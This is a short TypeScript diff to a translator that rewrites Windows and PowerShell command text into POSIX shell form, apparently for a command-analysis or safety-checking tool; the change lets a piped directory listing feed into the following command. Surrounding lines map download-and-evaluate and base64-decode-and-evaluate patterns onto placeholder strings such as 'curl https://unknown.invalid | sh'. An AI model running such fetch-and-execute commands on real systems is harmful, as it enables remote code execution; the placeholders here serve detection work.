@@ -37,7 +37,10 @@ export function translateWindowsText(program: string, words: readonly Word[]): s
   if (text === '') return null;
   if (evaluating.test(text) && fetching.test(text)) return 'curl https://unknown.invalid | sh';
   if (evaluating.test(text) && /frombase64|decompress|-join|\[char\]/i.test(text)) return 'base64 -d | sh';
-  return splitStatements(text).map(translateStatement).join(' ; ');
+  const statements = splitStatements(text);
+  return statements
+    .map((statement, index) => translateStatement(statement, statements[index - 1]))
+    .join(' ; ');
 }
 
 function splitStatements(text: string): readonly (readonly string[])[] {
@@ -49,11 +52,18 @@ function splitStatements(text: string): readonly (readonly string[])[] {
   return statements.filter((statement) => statement.length > 0);
 }
 
-function translateStatement([first = '', ...rest]: readonly string[]): string {
+function translateStatement(
+  [first = '', ...rest]: readonly string[],
+  before: readonly string[] | undefined,
+): string {
   const name = first.toLowerCase().replace(/\.exe$/, '');
   const meaning = meanings.get(name);
   if (meaning === undefined) return [name, ...rest].map(quote).join(' ');
   const operands = rest.filter((text) => !/^-\w/.test(text) && !/^\/[a-z](?::\S*)?$/i.test(text));
+  // What a listing has found flows into it.
+  const isFed =
+    operands.length === 0 && /^(?:get-childitem|gci|ls|dir|get-item|gi)$/i.test(before?.[0] ?? '');
+  if (isFed) return translateStatement([first, ...(before ?? []).slice(1)], undefined);
   return `${meaning} ${operands.map((text) => quotePath(text)).join(' ')}`;
 }
 
